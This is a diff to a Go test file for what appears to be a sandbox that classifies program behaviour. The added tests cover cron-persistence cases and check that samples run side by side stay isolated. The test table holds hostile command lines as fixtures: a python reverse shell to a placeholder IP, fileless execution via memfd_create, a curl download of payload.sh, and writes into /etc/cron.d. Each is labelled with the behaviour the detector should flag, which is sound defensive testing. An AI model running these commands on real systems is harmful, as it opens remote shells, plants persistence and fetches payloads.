@@ -8,6 +8,7 @@ import (
 	"time"
 
 	"github.com/google/go-cmp/cmp"
+	"golang.org/x/sync/errgroup"
 
 	"tyto/verdict"
 )
@@ -69,6 +70,8 @@ func TestBehaviours(t *testing.T) {
 		{"python3 -c 'import os; f=os.memfd_create(\"x\"); os.write(f, open(\"/usr/bin/true\",\"rb\").read()); os.execv(\"/proc/self/fd/%d\" % f, [\"x\"])'", "runs-from-memory"},
 		{"python3 -c 'import socket; s=socket.socket(); s.bind((\"0.0.0.0\",99999 % 65536)); s.listen()'", "listens"},
 		{"python3 -c 'import socket,os; s=socket.socket()\ntry: s.connect((\"192.0.2.1\",1))\nexcept OSError: pass\nos.dup2(s.fileno(),0); os.execv(\"/bin/sh\",[\"sh\"])'", "remote-shell"},
+		{"python3 -c 'for i in range(6000): open(\"/tmp/%d\" % i, \"w\")'; echo x > /etc/cron.d/last", "writes-cron"},
+		{"python3 -c 'for i in range(6000): open(\"/etc/%d\" % i, \"w\")'; ln -s /tmp/x /etc/cron.d/last", "writes-cron"},
 		{"(setsid sh -c 'sleep 3; echo x > /etc/cron.d/late' &) ; exit 0", "writes-cron"},
 		{"curl http://203.0.113.9/payload.sh -o /tmp/p", "downloads"},
 	} {
@@ -128,6 +131,34 @@ sh -c 'true https://evil.example.org/a?b=c'
 		if p.Path == "/usr/bin/python3" && (len(p.Arguments) != 3 || p.Parent == 0) {
 			t.Errorf("python's arguments or parent are missing: %v", p)
 		}
+	}
+}
+
+// Samples that run side by side do not see each other.
+func TestSideBySide(t *testing.T) {
+	e := newEngine(t, Options{Time: 5 * time.Second})
+	var group errgroup.Group
+	for i := range 4 {
+		name := fmt.Sprintf("side%d.sh", i)
+		s := sample(t, name, fmt.Appendf(nil, "echo %d > /tmp/mine; python3 -c ''; ls /tmp > /var/list\n", i))
+		group.Go(func() error {
+			seen, err := e.Examine(t.Context(), s)
+			if err != nil {
+				return err
+			}
+			dropped := map[string]string{}
+			for _, d := range seen.Dropped {
+				dropped[d.Path] = d.SHA256
+			}
+			want := map[string]string{"/tmp/mine": digest(fmt.Appendln(nil, i)), "/var/list": digest([]byte("mine\n"))}
+			if diff := cmp.Diff(want, dropped); diff != "" {
+				return fmt.Errorf("%s (-want +got):\n%s", name, diff)
+			}
+			return nil
+		})
+	}
+	if err := group.Wait(); err != nil {
+		t.Error(err)
 	}
 }
 
